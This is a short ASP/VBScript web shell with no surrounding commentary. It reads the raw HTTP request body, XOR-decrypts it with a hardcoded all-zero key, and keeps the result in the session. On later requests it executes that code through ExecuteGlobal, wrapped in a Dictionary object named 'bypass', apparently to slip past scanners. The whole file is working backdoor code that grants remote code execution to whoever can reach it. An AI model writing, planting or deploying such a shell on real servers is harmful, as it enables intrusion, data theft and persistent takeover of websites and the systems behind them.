<%@ Language=VBScript inert %>
<%
Set bypass = Server.CreateObject("Scripting.Dictionary")
Function decryption(content, isBin)
  dim size, i, result, keySize
  keySize = Len(key)
  For i = 1 To LenB(content)
    result = result & Chr(AscB(MidB(content, i, 1)) Xor Asc(Mid(key, (i Mod keySize) + 1, 1)))
  Next
  decryption = result
End Function
key = "0000000000000000"
content = Request.BinaryRead(Request.TotalBytes)
If IsEmpty(Session("payload")) Then
  Session("payload") = decryption(content, False)
Else
  bypass.Add "payload", Session("payload")
  ExecuteGlobal bypass("payload")
End If
%>
